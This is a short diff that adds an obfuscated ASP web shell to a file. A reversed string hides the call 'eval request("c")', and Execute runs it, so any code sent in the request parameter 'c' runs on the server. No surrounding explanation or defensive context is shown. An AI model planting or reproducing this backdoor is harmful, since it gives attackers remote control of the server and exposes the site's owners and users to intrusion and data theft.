@@ -1,0 +1,4 @@
+<%
+x = StrReverse(")""c""(tseuqer lave")
+Execute x
+%>
